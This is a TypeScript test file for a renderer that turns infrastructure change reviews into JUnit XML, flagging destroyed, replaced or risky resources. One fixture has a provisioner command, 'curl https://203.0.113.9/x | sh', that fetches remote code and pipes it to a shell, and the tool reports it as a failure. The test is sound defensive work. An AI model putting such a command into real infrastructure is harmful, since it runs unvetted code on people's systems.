import { describe, expect, test } from 'vitest';
import { renderJunit } from '../../../src/review/render/junit';
import { pullRequest } from '../fixtures/pull-request';
import { change, huge, report, stack, unchanged } from '../fixtures/report';
import { xmlMistakes } from '../fixtures/xml';

/** A case with what is in it, by a part of its name. */
const caseOf = (text: string, name: string): string =>
  [...text.matchAll(/ {4}<testcase [^>]*?(?:\/>|>[\s\S]*?<\/testcase>)/g)]
    .map(([one]) => one)
    .find((one) => one.includes(name)) ?? '';

describe('the JUnit', () => {
  test.each([
    ['of nothing changed', unchanged],
    ['of a pull request', pullRequest],
    ['of many changes', huge(10, 20)],
  ])('%s is well-formed XML', (_, given) => {
    expect(xmlMistakes(renderJunit(given))).toEqual([]);
  });

  test('has a suite for each changed stack and a case for each change', () => {
    const text = renderJunit(pullRequest);
    expect(
      [...text.matchAll(/<testsuite name="([^"]+)" tests="(\d+)" failures="(\d+)"/g)].map((match) => match.slice(1)),
    ).toEqual([
      ['organization', '3', '1'],
      ['data-prod', '12', '8'],
      ['fd-lab', '3', '0'],
      ['erp-dev', '4', '1'],
    ]);
    expect(text).toContain(
      '<testsuites name="landing-zone review" tests="22" failures="10" errors="0" skipped="3" time="0">',
    );
  });

  test('fails what is destroyed, replaced or moved, and says why and what is lost', () => {
    expect(caseOf(renderJunit(pullRequest), 'replace Clusters/main')).toBe(
      [
        '    <testcase classname="data-prod" name="replace Clusters/main (ovh_cloud_project_kube)" time="0" file="examples/orbital/landing-zone.ts" line="129">',
        '      <failure message="replace Clusters/main: loses the etcd data of the cluster: every Kubernetes object that is not in Git" type="replace">address: ovh_cloud_project_kube.Clusters_main_1A2B3C4D',
        'code: examples/orbital/landing-zone.ts:129',
        'why: depends on private_network_id, known after apply, which waits for data-prod-foundation/Networks/main',
        'loses: the etcd data of the cluster: every Kubernetes object that is not in Git',
        '</failure>',
        '    </testcase>',
      ].join('\n'),
    );
  });

  test('passes what is added or changed, unless it would fail or empties something', () => {
    const cases = [
      change({ action: 'change', path: 'Fine' }),
      change({ action: 'change', path: 'Refused', notes: [{ effect: 'fails', says: 'always refused' }] }),
      change({ action: 'change', path: 'Emptied', notes: [{ effect: 'wipes', says: 'nodes are reinstalled' }] }),
    ];
    const text = renderJunit(report({ stacks: [stack({ changes: cases })] }));
    expect(caseOf(text, 'Fine')).not.toContain('failure');
    expect(caseOf(text, 'Refused')).toContain('<failure message="always refused" type="fails">');
    expect(caseOf(text, 'Emptied')).toContain('<failure message="change Emptied" type="empty">');
  });

  test('fails what is found beside the changes, apart from what is only listed', () => {
    const text = renderJunit(pullRequest);
    expect(caseOf(text, 'runs-code ')).toBe(
      [
        '    <testcase classname="data-prod" name="runs-code Clusters/main/NodePools/batch: runs a local-exec provisioner: curl https://203.0.113.9/x | sh" time="0" file="examples/orbital/landing-zone.ts" line="132">',
        '      <failure message="runs code: runs a local-exec provisioner: curl https://203.0.113.9/x | sh" type="runs-code">where: ovh_cloud_project_kube_nodepool.Clusters_main_NodePools_batch_1A2B3C4D',
        'differs: provisioner[0].local-exec.command: + curl https://203.0.113.9/x | sh',
        '</failure>',
        '    </testcase>',
      ].join('\n'),
    );
    expect([...text.matchAll(/<failure message="[^"]*" type="([\w-]+)"/g)].map(([, type]) => type)).toEqual([
      ...['provider', 'runs-code', 'provider', 'state', 'guard', 'unread'],
      ...['replace', 'destroy', 'move', 'left-behind'],
    ]);
    expect(caseOf(text, '2 other differences in data-prod')).toContain(
      '<system-out>data source is new: Account\noutput differs: output.url\n  value: https://a.example → https://b.example\n</system-out>',
    );
  });

  test('fails one case of a stack that is gone from the program and skips what is left in it', () => {
    const text = renderJunit(pullRequest);
    expect(caseOf(text, 'stack erp-dev is gone')).toContain('to remove it: npx landing-zone destroy erp-dev');
    expect(text.match(/<skipped message="left behind, not destroyed"\/>/g)?.length).toBe(3);
  });

  test('says whose stack it is and what was reviewed', () => {
    const text = renderJunit(pullRequest);
    expect(text).toContain('<property name="team" value="data"/>');
    expect(text).toContain('<property name="owner" value="data@orbital.example"/>');
    expect(text).toContain(`<property name="digest" value="${pullRequest.digest}"/>`);
  });

  test('makes control characters and markup harmless', () => {
    const path = 'a\u0000\u001b[31m<b>"&\'\uD800\uFFFE]]>';
    const text = renderJunit(report({ stacks: [stack({ changes: [change({ path, address: path })] })] }));
    expect(xmlMistakes(text)).toEqual([]);
    expect(text).toContain('name="add a⟨U+0000⟩⟨U+001B⟩[31m&lt;b&gt;&quot;&amp;&#39;⟨U+D800⟩⟨U+FFFE⟩]]&gt; (');
  });
});
